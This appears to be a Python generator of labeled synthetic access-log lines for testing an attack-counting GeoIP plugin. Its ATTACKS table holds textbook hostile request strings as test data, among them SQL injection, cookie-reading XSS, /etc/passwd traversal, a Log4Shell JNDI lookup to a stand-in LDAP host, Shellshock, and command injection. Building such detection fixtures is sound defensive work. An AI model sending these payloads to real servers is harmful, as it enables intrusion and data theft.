#!/usr/bin/env python3
"""loggen: access-log lines with known ground truth, for tests and the demo.

Every line comes with what it *is*: an attack or not, its categories, the
country its address belongs to according to the GeoIP source table
(tests/data/*-geo.tsv, the same table tests/tools/mkmmdb.pl turns into a
.mmdb). Tests compare what collectd wrote with these labels; the demo uses
the same generator to feed a live log.

The attack samples are deliberately plain - each the textbook form of its
category, one category per sample - so that a test failure means the
plugin lost or misplaced a line, not that the sample was debatable.

Usage as a program:
  loggen.py --geo TSV [--seed N] [--lines N] [--attack-ratio R]
            [--format combined|common] [--truth FILE] > access.log
  loggen.py --geo TSV --live FILE [--rate N] [--seconds S]   (append live)
"""

import argparse
import ipaddress
import json
import random
import sys
import time

# --- GeoIP source table ------------------------------------------------------


def _valid_code(code):
    return len(code) == 2 and code.isascii() and code.isalpha() and code.isupper()


def load_geo(path):
    """Rows of (network, expected country) from a mkmmdb.pl TSV.

    The expected country follows the plugin's documented rule: country
    iso_code, else registered_country, else ZZ (a code that is not two
    letters counts as ZZ too)."""
    rows = []
    with open(path, encoding="utf-8") as f:
        for raw in f:
            line = raw.rstrip("\n")
            if not line.strip() or line.lstrip().startswith("#"):
                continue
            cols = line.split("\t")
            net = ipaddress.ip_network(cols[0].strip(), strict=False)
            country = cols[1].strip() if len(cols) > 1 else "-"
            registered = cols[2].strip() if len(cols) > 2 else "-"
            if _valid_code(country):
                expect = country
            elif country in ("-", "") and _valid_code(registered):
                expect = registered
            else:
                expect = "ZZ"
            rows.append((net, expect))
    return rows


def lookup(rows, addr):
    """Expected country of an address: longest matching prefix, else ZZ."""
    ip = ipaddress.ip_address(addr)
    if ip.version == 6 and ip.ipv4_mapped is not None:
        ip = ip.ipv4_mapped
    if not ip.is_global:
        return "ZZ"
    best = None
    for net, cc in rows:
        if ip.version == net.version and ip in net:
            if best is None or net.prefixlen > best[0].prefixlen:
                best = (net, cc)
    return best[1] if best else "ZZ"


def absent_address(rows, version=4):
    """A public address that no row covers (its country is ZZ)."""
    cands = ["45.33.32.156", "185.199.108.153", "151.101.1.69", "104.16.0.1",
             "23.1.2.3"] if version == 4 else [
             "2606:4700::1111", "2620:fe::9", "2a00:1450::1", "2c0f:fb50::1"]
    for c in cands:
        ip = ipaddress.ip_address(c)
        if not any(ip.version == n.version and ip in n for n, _ in rows):
            return c
    raise RuntimeError("no absent address among the candidates")


def random_address(rng, net):
    """A random host address inside net."""
    if net.num_addresses <= 2:
        return str(net.network_address)
    off = rng.randrange(1, min(net.num_addresses - 1, 1 << 32))
    return str(net.network_address + off)


# --- request samples -----------------------------------------------------------

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/7.88.1",
]

# (method, target, status, referer) of ordinary requests.
BENIGN = [
    ("GET", "/", 200, "-"),
    ("GET", "/index.html", 200, "-"),
    ("GET", "/static/css/site.css?v=3", 200, "https://www.example.com/"),
    ("GET", "/static/js/app.min.js", 304, "https://www.example.com/"),
    ("GET", "/search?q=union+station+to+airport", 200, "-"),
    ("GET", "/search?q=select+a+plan", 200, "-"),
    ("GET", "/blog/2024/03/dropping-the-old-api", 200, "-"),
    ("GET", "/products/42?color=red&size=m", 200, "-"),
    ("POST", "/api/v1/orders", 201, "https://www.example.com/cart"),
    ("GET", "/images/logo.png", 200, "https://www.example.com/"),
    ("GET", "/favicon.ico", 404, "-"),
    ("GET", "/about-us", 200, "https://www.google.com/"),
    ("GET", "/robots.txt", 200, "-"),
    ("GET", "/account/settings", 403, "-"),
]

# category -> list of (method, target, status, user agent or None).
ATTACKS = {
    "sqli": [
        ("GET", "/products.php?id=1%27%20OR%20%271%27%3D%271", 200, None),
        ("GET", "/item?id=1+UNION+SELECT+username,password+FROM+users--", 200,
         None),
        ("GET", "/news?id=5%20AND%20SLEEP(5)", 200, None),
    ],
    "xss": [
        ("GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 200, None),
        ("GET", "/comment?text=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E",
         200, None),
    ],
    "traversal": [
        ("GET", "/download?file=../../../../etc/passwd", 400, None),
        ("GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", 404, None),
    ],
    "rce": [
        ("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%3A1389%2Fa%7D", 200,
         None),
        ("GET", "/cgi/status", 200, "() { :; }; /bin/bash -c 'id'"),
        ("GET", "/ping.php?host=127.0.0.1%3Buname%20-a", 200, None),
    ],
    "scanner": [
        ("GET", "/", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("GET", "/", 200, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) "
         "(Test:000003)"),
    ],
    "probe": [
        ("GET", "/.env", 404, None),
        ("GET", "/.git/config", 404, None),
        ("GET", "/wp-login.php", 404, None),
        ("GET", "/phpmyadmin/index.php", 404, None),
    ],
    "auth": [
        ("POST", "/login", 401, None),
        ("GET", "/admin/dashboard", 401, None),
    ],
}

CATEGORIES = list(ATTACKS)

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct",
          "Nov", "Dec"]


def clf_time(t):
    tm = time.gmtime(t)
    return "%02d/%s/%04d:%02d:%02d:%02d +0000" % (
        tm.tm_mday, MONTHS[tm.tm_mon - 1], tm.tm_year, tm.tm_hour, tm.tm_min,
        tm.tm_sec)


def format_line(fmt, addr, method, target, status, size, referer, ua, t):
    req = "%s %s HTTP/1.1" % (method, target)
    if fmt == "common":
        return '%s - - [%s] "%s" %d %s' % (addr, clf_time(t), req, status, size)
    return '%s - - [%s] "%s" %d %s "%s" "%s"' % (
        addr, clf_time(t), req, status, size, referer, ua)


class Generator:
    """Deterministic (for a seed) log lines with their labels."""

    def __init__(self, rows, seed=1, fmt="combined", weights=None):
        self.rows = rows
        self.rng = random.Random(seed)
        self.fmt = fmt
        self.t = 1_700_000_000
        # Countries by weight (default: uniform over the table's rows).
        self.weights = weights

    def address(self, version=None, country=None):
        """A random address (of a country when given) and its country."""
        rows = [r for r in self.rows if r[1] != "ZZ"]
        if country is not None:
            rows = [r for r in rows if r[1] == country]
        if version is not None:
            rows = [r for r in rows if r[0].version == version]
        if self.weights and country is None:
            ws = [self.weights.get(cc, 1.0) for _, cc in rows]
            net, _ = self.rng.choices(rows, weights=ws)[0]
        else:
            net, _ = self.rng.choice(rows)
        addr = random_address(self.rng, net)
        return addr, lookup(self.rows, addr)

    def country_address(self, cc, tries=100):
        """An address of country cc. Rows of a country may hold more
        specific rows of another (trap rows): draws until the address is
        really cc's."""
        for _ in range(tries):
            addr, got = self.address(country=cc)
            if got == cc:
                return addr
        raise AssertionError("no address of %s in %d draws" % (cc, tries))

    def attacks(self, counts, category=None):
        """(text, truth) of attack lines from countries {cc: n}, in that
        order; of `category`, or of one drawn per line when None."""
        out = []
        for cc, n in counts.items():
            for _ in range(n):
                addr = self.country_address(cc)
                cat = category or self.rng.choice(CATEGORIES)
                out.append(self.line(True, cat, addr=addr))
        return out

    def line(self, attack, category=None, addr=None):
        """One line and its truth: {"attack", "categories", "country"}."""
        self.t += 1
        if addr is None:
            addr, cc = self.address()
        else:
            cc = lookup(self.rows, addr)
        size = str(self.rng.randrange(200, 40000))
        if attack:
            category = category or self.rng.choice(CATEGORIES)
            samples = ATTACKS[category]
            if self.fmt == "common":
                # No user agent in the line: attacks carried by it are
                # invisible, so they are not generated.
                samples = [s for s in samples if s[3] is None]
            if not samples:
                raise ValueError("%s attacks need the user agent" % category)
            method, target, status, ua = self.rng.choice(samples)
            ua = ua or self.rng.choice(BROWSER_UAS[:3])
            text = format_line(self.fmt, addr, method, target, status, size,
                               "-", ua, self.t)
            return text, {"attack": True, "categories": [category],
                          "country": cc, "ip": addr}
        method, target, status, ref = self.rng.choice(BENIGN)
        ua = self.rng.choice(BROWSER_UAS)
        text = format_line(self.fmt, addr, method, target, status, size, ref,
                           ua, self.t)
        return text, {"attack": False, "categories": [], "country": cc,
                      "ip": addr}

    def batch(self, n, attack_ratio=0.3):
        cats = CATEGORIES if self.fmt == "combined" else [
            c for c in CATEGORIES if c != "scanner"]
        out = []
        for _ in range(n):
            if self.rng.random() < attack_ratio:
                out.append(self.line(True, self.rng.choice(cats)))
            else:
                out.append(self.line(False))
        return out


class Truth:
    """Running ground truth: attacks per country and per (category, country)."""

    def __init__(self):
        self.by_country = {}
        self.by_cat = {}
        self.lines = 0
        self.unparsed = 0
        self.oversized = 0

    def add(self, truth):
        self.lines += 1
        if not truth.get("attack"):
            return
        cc = truth["country"]
        self.by_country[cc] = self.by_country.get(cc, 0) + 1
        for cat in truth["categories"]:
            key = (cat, cc)
            self.by_cat[key] = self.by_cat.get(key, 0) + 1

    @property
    def total(self):
        return sum(self.by_country.values())

    def share(self, cc):
        return 100.0 * self.by_country.get(cc, 0) / self.total


# --- command line ----------------------------------------------------------------


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--geo", required=True, help="GeoIP source TSV")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--lines", type=int, default=1000)
    ap.add_argument("--attack-ratio", type=float, default=0.3)
    ap.add_argument("--format", default="combined",
                    choices=["combined", "common"])
    ap.add_argument("--truth", help="write per-line truth as JSON lines here")
    ap.add_argument("--live", help="append to this file in real time")
    ap.add_argument("--rate", type=float, default=50, help="lines per second")
    ap.add_argument("--seconds", type=float, default=0,
                    help="stop after this long (0: until interrupted)")
    ap.add_argument("--weights", help="JSON {country: weight}")
    args = ap.parse_args()
    rows = load_geo(args.geo)
    weights = json.loads(args.weights) if args.weights else None
    gen = Generator(rows, args.seed, args.format, weights)
    if args.live:
        live(gen, args)
        return
    truth_out = open(args.truth, "w") if args.truth else None
    for text, truth in gen.batch(args.lines, args.attack_ratio):
        sys.stdout.write(text + "\n")
        if truth_out:
            truth_out.write(json.dumps(truth) + "\n")
    if truth_out:
        truth_out.close()


def live(gen, args):
    start = time.time()
    sent = 0
    try:
        with open(args.live, "a", buffering=1) as f:
            while not args.seconds or time.time() - start < args.seconds:
                due = int((time.time() - start) * args.rate)
                for text, _ in gen.batch(max(0, due - sent),
                                         args.attack_ratio):
                    f.write(text + "\n")
                    sent += 1
                time.sleep(0.05)
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
